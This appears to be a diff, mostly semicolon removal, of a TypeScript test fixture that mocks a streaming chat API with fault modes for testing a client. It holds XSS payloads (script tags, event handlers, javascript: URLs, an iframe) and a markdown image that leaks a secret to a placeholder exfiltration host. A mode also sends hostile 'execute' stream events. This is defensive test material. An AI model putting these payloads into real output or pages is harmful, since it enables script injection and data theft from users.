@@ -5,19 +5,19 @@ export type Step =
   | { kind: 'bytes'; bytes: string | Buffer; token?: true }
   | { kind: 'wait'; ms: number }
   /** `clean` ends the response, `reset` destroys the socket, `never` leaves it open and mute. */
-  | { kind: 'end'; how: 'clean' | 'reset' | 'never' };
+  | { kind: 'end'; how: 'clean' | 'reset' | 'never' }
 
 export type ModeContext = {
   /** What follows `:` in the mode, such as 200 in `lent:200`. */
-  argument: number | undefined;
-  tokens: readonly string[];
+  argument: number | undefined
+  tokens: readonly string[]
   /** Milliseconds between two tokens; 0 as fast as the socket takes them. */
-  gapMs: number;
-  model: string;
-  body: { stream_options?: unknown };
-};
+  gapMs: number
+  model: string
+  body: { stream_options?: unknown }
+}
 
-type Mode = (context: ModeContext) => Generator<Step>;
+type Mode = (context: ModeContext) => Generator<Step>
 
 const ANSWER = `Bonjour, voici une première proposition pour votre délibération.
 
@@ -25,32 +25,32 @@ const ANSWER = `Bonjour, voici une première proposition pour votre délibérati
 2. **Considérants** : exposez le besoin, le montant et l’échéance.
 3. **Décision** : une phrase par article, au présent.
 
-Il reste à préciser la date de la séance et le vote. Souhaitez-vous que je rédige l’article premier ?`;
+Il reste à préciser la date de la séance et le vote. Souhaitez-vous que je rédige l’article premier ?`
 
 const XSS = `Avant <script>window.__xss=1</script> <img src=x onerror="window.__xss=2"> <svg onload=window.__xss=3>
 [lien](javascript:window.__xss=4) ![image](https://exfiltration.invalid/x.png?d=secret)
 <iframe srcdoc="<script>parent.__xss=5</script>"></iframe> [ref][r]
 
 [r]: data:text/html,<script>window.__xss=6</script>
-Après.`;
+Après.`
 
 /** Words with the white space that follows them: what a model's tokens look like. */
-export const tokensOf = (text: string): string[] => text.match(/\S+\s*|\s+/g) ?? [];
+export const tokensOf = (text: string): string[] => text.match(/\S+\s*|\s+/g) ?? []
 
 /** The default answer, or `count` tokens made by repeating it. */
 export const answerTokens = (count?: number): string[] => {
-  const tokens = tokensOf(ANSWER);
-  return count === undefined ? tokens : Array.from({ length: count }, (_, i) => tokens[i % tokens.length]!);
-};
+  const tokens = tokensOf(ANSWER)
+  return count === undefined ? tokens : Array.from({ length: count }, (_, i) => tokens[i % tokens.length]!)
+}
 
-export const DEFAULT_ANSWER = ANSWER;
-export const XSS_ANSWER = XSS;
+export const DEFAULT_ANSWER = ANSWER
+export const XSS_ANSWER = XSS
 
-const head = (status: number, headers: Record<string, string>): Step => ({ kind: 'head', status, headers });
-const STREAM = head(200, { 'content-type': 'text/event-stream; charset=utf-8' });
-const end = (how: 'clean' | 'reset' | 'never'): Step => ({ kind: 'end', how });
-const bytes = (value: string | Buffer): Step => ({ kind: 'bytes', bytes: value });
-const wait = (ms: number): Step => ({ kind: 'wait', ms });
+const head = (status: number, headers: Record<string, string>): Step => ({ kind: 'head', status, headers })
+const STREAM = head(200, { 'content-type': 'text/event-stream; charset=utf-8' })
+const end = (how: 'clean' | 'reset' | 'never'): Step => ({ kind: 'end', how })
+const bytes = (value: string | Buffer): Step => ({ kind: 'bytes', bytes: value })
+const wait = (ms: number): Step => ({ kind: 'wait', ms })
 
 const chunkJson = (context: ModeContext, choice: object | null, rest: object = {}) =>
   JSON.stringify({
@@ -60,45 +60,45 @@ const chunkJson = (context: ModeContext, choice: object | null, rest: object = {
     model: context.model,
     choices: choice === null ? [] : [{ index: 0, ...choice }],
     ...rest,
-  });
-const event = (json: string) => `data: ${json}\n\n`;
-const delta = (context: ModeContext, content: string) => chunkJson(context, { delta: { content }, finish_reason: null });
-const finish = (context: ModeContext, reason: string) => event(chunkJson(context, { delta: {}, finish_reason: reason }));
-const DONE = event('[DONE]');
+  })
+const event = (json: string) => `data: ${json}\n\n`
+const delta = (context: ModeContext, content: string) => chunkJson(context, { delta: { content }, finish_reason: null })
+const finish = (context: ModeContext, reason: string) => event(chunkJson(context, { delta: {}, finish_reason: reason }))
+const DONE = event('[DONE]')
 
 function* spoken(context: ModeContext, tokens = context.tokens, gapMs = context.gapMs): Generator<Step> {
   for (const token of tokens) {
-    if (gapMs > 0) yield wait(gapMs);
-    yield { kind: 'bytes', bytes: event(delta(context, token)), token: true };
+    if (gapMs > 0) yield wait(gapMs)
+    yield { kind: 'bytes', bytes: event(delta(context, token)), token: true }
   }
 }
 
 function* closing(context: ModeContext, reason = 'stop', sent = context.tokens.length): Generator<Step> {
-  yield bytes(finish(context, reason));
+  yield bytes(finish(context, reason))
   if (context.body.stream_options) {
-    const usage = { prompt_tokens: 42, completion_tokens: sent, total_tokens: 42 + sent };
-    yield bytes(event(chunkJson(context, null, { usage })));
+    const usage = { prompt_tokens: 42, completion_tokens: sent, total_tokens: 42 + sent }
+    yield bytes(event(chunkJson(context, null, { usage })))
   }
-  yield bytes(DONE);
-  yield end('clean');
+  yield bytes(DONE)
+  yield end('clean')
 }
 
 function* complete(context: ModeContext, reason = 'stop', gapMs = context.gapMs): Generator<Step> {
-  yield STREAM;
-  yield bytes(event(chunkJson(context, { delta: { role: 'assistant', content: '' }, finish_reason: null })));
-  yield* spoken(context, context.tokens, gapMs);
-  yield* closing(context, reason);
+  yield STREAM
+  yield bytes(event(chunkJson(context, { delta: { role: 'assistant', content: '' }, finish_reason: null })))
+  yield* spoken(context, context.tokens, gapMs)
+  yield* closing(context, reason)
 }
 
 const refusal = (status: number, headers: Record<string, string> = {}): Mode =>
   function* () {
-    yield head(status, { 'content-type': 'application/json', ...headers });
-    yield bytes(JSON.stringify({ error: { message: 'SECRET-DU-SERVEUR sk-faux-cle at /srv/model.py:12', code: status } }));
-    yield end('clean');
-  };
+    yield head(status, { 'content-type': 'application/json', ...headers })
+    yield bytes(JSON.stringify({ error: { message: 'SECRET-DU-SERVEUR sk-faux-cle at /srv/model.py:12', code: status } }))
+    yield end('clean')
+  }
 
 const whole = (context: ModeContext) =>
-  context.tokens.map((token) => event(delta(context, token))).join('') + finish(context, 'stop') + DONE;
+  context.tokens.map((token) => event(delta(context, token))).join('') + finish(context, 'stop') + DONE
 
 /** Every fault by name; a number may follow, as in `lent:200` or `429:2`. */
 export const MODES = {
@@ -115,116 +115,116 @@ export const MODES = {
   503: refusal(503),
   /** 400 as long as `stream_options` is sent. */
   *'sans-options'(context) {
-    yield* context.body.stream_options ? refusal(400)(context) : complete(context);
+    yield* context.body.stream_options ? refusal(400)(context) : complete(context)
   },
   *html() {
-    yield head(200, { 'content-type': 'text/html' });
-    yield bytes('<html><body>SECRET-DU-SERVEUR portail captif</body></html>');
-    yield end('clean');
+    yield head(200, { 'content-type': 'text/html' })
+    yield bytes('<html><body>SECRET-DU-SERVEUR portail captif</body></html>')
+    yield end('clean')
   },
   *redirection() {
-    yield head(302, { location: '/v1/piege' });
-    yield end('clean');
+    yield head(302, { location: '/v1/piege' })
+    yield end('clean')
   },
   *muet() {
-    yield end('never');
+    yield end('never')
   },
   *'entetes-puis-muet'() {
-    yield STREAM;
-    yield bytes(': en attente\n\n');
-    yield end('never');
+    yield STREAM
+    yield bytes(': en attente\n\n')
+    yield end('never')
   },
   /** Silence after some tokens (3). */
   *silence(context) {
-    yield STREAM;
-    yield* spoken(context, context.tokens.slice(0, context.argument ?? 3));
-    yield end('never');
+    yield STREAM
+    yield* spoken(context, context.tokens.slice(0, context.argument ?? 3))
+    yield end('never')
   },
   *'coupure-avant'() {
-    yield end('reset');
+    yield end('reset')
   },
   /** Socket destroyed after some tokens (5). */
   *coupure(context) {
-    yield STREAM;
-    yield* spoken(context, context.tokens.slice(0, context.argument ?? 5));
-    yield wait(5);
-    yield end('reset');
+    yield STREAM
+    yield* spoken(context, context.tokens.slice(0, context.argument ?? 5))
+    yield wait(5)
+    yield end('reset')
   },
   *'fin-sans-done'(context) {
-    yield STREAM;
-    yield* spoken(context, context.tokens.slice(0, context.argument ?? 5));
-    yield end('clean');
+    yield STREAM
+    yield* spoken(context, context.tokens.slice(0, context.argument ?? 5))
+    yield end('clean')
   },
   /** A finish reason, then nothing: neither [DONE] nor the end of the response. */
   *'fin-muette'(context) {
-    yield STREAM;
-    yield* spoken(context);
-    yield bytes(finish(context, 'stop'));
-    yield end('never');
+    yield STREAM
+    yield* spoken(context)
+    yield bytes(finish(context, 'stop'))
+    yield end('never')
   },
   *ordures(context) {
-    yield STREAM;
-    yield bytes(': commentaire\n\nretry: 10\nid: 7\n\ndata: pas du json\n\ndata: null\n\ndata: [1,2]\n\ndata: 12\n\ndata:\n\n');
-    yield bytes('data: {"choices":null}\n\ndata: {"choices":[null,{"index":1,"delta":{"content":"AUTRE CHOIX"}}]}\n\n');
-    yield bytes(event(chunkJson(context, { delta: { reasoning_content: 'RAISONNEMENT' }, finish_reason: null })));
-    yield bytes(event(chunkJson(context, { delta: { content: [{ type: 'thinking', thinking: 'RAISONNEMENT' }] } })));
+    yield STREAM
+    yield bytes(': commentaire\n\nretry: 10\nid: 7\n\ndata: pas du json\n\ndata: null\n\ndata: [1,2]\n\ndata: 12\n\ndata:\n\n')
+    yield bytes('data: {"choices":null}\n\ndata: {"choices":[null,{"index":1,"delta":{"content":"AUTRE CHOIX"}}]}\n\n')
+    yield bytes(event(chunkJson(context, { delta: { reasoning_content: 'RAISONNEMENT' }, finish_reason: null })))
+    yield bytes(event(chunkJson(context, { delta: { content: [{ type: 'thinking', thinking: 'RAISONNEMENT' }] } })))
     for (const token of context.tokens) {
-      yield bytes(`data:{"choices":[{"delta":{"content":${JSON.stringify(token)}}}]}\n\nligne perdue\n\ndata: {"cass\n\n`);
+      yield bytes(`data:{"choices":[{"delta":{"content":${JSON.stringify(token)}}}]}\n\nligne perdue\n\ndata: {"cass\n\n`)
     }
-    yield* closing(context);
+    yield* closing(context)
   },
   *'erreur-dans-flux'(context) {
-    yield STREAM;
-    yield* spoken(context, context.tokens.slice(0, context.argument ?? 4));
-    yield bytes(event(JSON.stringify({ error: { message: 'SECRET-DU-SERVEUR', type: 'server_error', code: 500 } })));
-    yield bytes(DONE);
-    yield end('clean');
+    yield STREAM
+    yield* spoken(context, context.tokens.slice(0, context.argument ?? 4))
+    yield bytes(event(JSON.stringify({ error: { message: 'SECRET-DU-SERVEUR', type: 'server_error', code: 500 } })))
+    yield bytes(DONE)
+    yield end('clean')
   },
   /** Events and fields that a hostile server hopes to see interpreted (CVE-2025-64496). */
   *evenements(context) {
-    yield STREAM;
-    yield bytes(`event: execute\n${event(delta(context, 'INTRUS'))}event: sources\ndata: {"sources":["INTRUS"]}\n\n`);
-    yield bytes(event(chunkJson(context, { delta: { content: 'sain', execute: 'INTRUS' } }, { event: 'execute' })));
-    yield* closing(context, 'stop', 1);
+    yield STREAM
+    yield bytes(`event: execute\n${event(delta(context, 'INTRUS'))}event: sources\ndata: {"sources":["INTRUS"]}\n\n`)
+    yield bytes(event(chunkJson(context, { delta: { content: 'sain', execute: 'INTRUS' } }, { event: 'execute' })))
+    yield* closing(context, 'stop', 1)
   },
   *vide(context) {
-    yield STREAM;
-    yield* closing(context, 'stop', 0);
+    yield STREAM
+    yield* closing(context, 'stop', 0)
   },
   *'sans-fin'(context) {
-    yield STREAM;
-    for (;;) yield* spoken(context, context.tokens, context.argument ?? 5);
+    yield STREAM
+    for (;;) yield* spoken(context, context.tokens, context.argument ?? 5)
   },
   xss: (context) => complete({ ...context, tokens: tokensOf(XSS) }),
   /** One byte per write. */
   *utf8(context) {
-    yield STREAM;
-    for (const byte of Buffer.from(whole(context))) yield bytes(Buffer.of(byte));
-    yield end('clean');
+    yield STREAM
+    for (const byte of Buffer.from(whole(context))) yield bytes(Buffer.of(byte))
+    yield end('clean')
   },
   *crlf(context) {
-    yield STREAM;
-    yield bytes(whole(context).replaceAll('\n', '\r\n'));
-    yield end('clean');
+    yield STREAM
+    yield bytes(whole(context).replaceAll('\n', '\r\n'))
+    yield end('clean')
   },
   /** A line of so many bytes (2 MB) that never ends. */
   *'ligne-geante'(context) {
-    yield STREAM;
-    yield* spoken(context, context.tokens.slice(0, 2));
-    yield bytes('data: ');
-    const block = Buffer.alloc(65_536, 0x61);
-    for (let sent = 0; sent < (context.argument ?? 2_097_152); sent += block.length) yield bytes(block);
-    yield end('never');
+    yield STREAM
+    yield* spoken(context, context.tokens.slice(0, 2))
+    yield bytes('data: ')
+    const block = Buffer.alloc(65_536, 0x61)
+    for (let sent = 0; sent < (context.argument ?? 2_097_152); sent += block.length) yield bytes(block)
+    yield end('never')
   },
-} satisfies Record<string, Mode>;
+} satisfies Record<string, Mode>
 
-export type ModeName = `${keyof typeof MODES}`;
+export type ModeName = `${keyof typeof MODES}`
 /** A mode, with its number if any. */
-export type FaultMode = ModeName | `${ModeName}:${number}`;
+export type FaultMode = ModeName | `${ModeName}:${number}`
 
 /** The steps of a mode; an unknown name is a mistake of the test and throws. */
 export const stepsOf = (mode: string, context: Omit<ModeContext, 'argument'>): Generator<Step> => {
-  const [name = '', argument] = mode.split(':');
-  if (!Object.hasOwn(MODES, name)) throw new Error(`unknown mode: ${name}`);
-  return (MODES as Record<string, Mode>)[name]!({ ...context, argument: argument === undefined ? undefined : Number(argument) });
-};
+  const [name = '', argument] = mode.split(':')
+  if (!Object.hasOwn(MODES, name)) throw new Error(`unknown mode: ${name}`)
+  return (MODES as Record<string, Mode>)[name]!({ ...context, argument: argument === undefined ? undefined : Number(argument) })
+}
